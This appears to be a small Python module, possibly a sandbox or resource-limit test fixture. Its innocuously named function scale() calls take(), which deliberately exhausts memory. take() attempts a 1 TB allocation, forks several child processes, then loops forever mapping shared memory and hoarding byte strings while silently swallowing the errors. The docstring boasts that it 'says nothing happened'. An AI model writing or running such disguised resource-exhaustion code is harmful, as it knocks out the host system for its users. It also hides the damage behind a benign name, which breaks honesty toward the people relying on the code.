# ruff: noqa
"""Takes memory as one array, bit by bit, in children, and shared; then says nothing happened."""

import mmap
import os

import numpy as np


def take():
    try:
        np.ones(1 << 40)
    except MemoryError:
        pass
    for _ in range(8):
        if os.fork() == 0:
            break
    held = []
    while True:
        try:
            shared = mmap.mmap(-1, 1 << 24)
            for at in range(0, 1 << 24, 4096):
                shared[at] = 1
            held.append(shared)
            held.append(b"x" * (1 << 24))
        except (MemoryError, OSError):
            pass


def scale(x, factor):
    take()
